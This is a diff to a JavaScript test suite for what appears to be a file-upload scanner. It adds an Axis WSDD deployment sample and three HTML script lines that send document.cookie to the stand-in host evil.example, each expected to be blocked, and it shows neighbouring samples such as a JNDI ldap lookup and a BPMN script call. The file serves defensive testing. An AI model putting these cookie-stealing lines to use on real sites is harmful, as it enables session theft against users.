@@ -154,6 +154,7 @@ describe('a document that starts a program when it is read is refused', () => {
       'a.xml',
       '<configuration><insertFromJNDI env-entry-name="ldap://a/x"/></configuration>',
     ],
+    ['a service of Axis', 'a.wsdd', '<deployment><service name="x" provider="java:RPC"/></deployment>'],
     ['a process', 'a.bpmn', '<definitions><script>"id".execute()</script></definitions>'],
     [
       'a process with a class',
@@ -199,6 +200,17 @@ describe('an object that runs something when it is read is refused', () => {
   test('the state that a game keeps passes', () => {
     assert.equal(verdict('filename="a.save"', `${NET}Assembly-CSharp\u0005\u0001PlayerState`), 'pass')
   })
+})
+
+test('a page that sends cookies away is refused; one that reads them passes', () => {
+  for (const script of [
+    'fetch("//evil.example/?" + document.cookie)',
+    'new Image().src = "//evil.example/" + escape(document.cookie)',
+    'location.href = "//evil.example/" + document.cookie',
+  ])
+    assert.equal(verdict('filename="a.html"', `<script>${script}</script>`), 'block', script)
+  for (const script of ['var theme = document.cookie', 'fetch("/api"); read(document.cookie)'])
+    assert.equal(verdict('filename="a.html"', `<script>${script}</script>`), 'pass', script)
 })
 
 test('the script of a packed drawing is refused', () => {
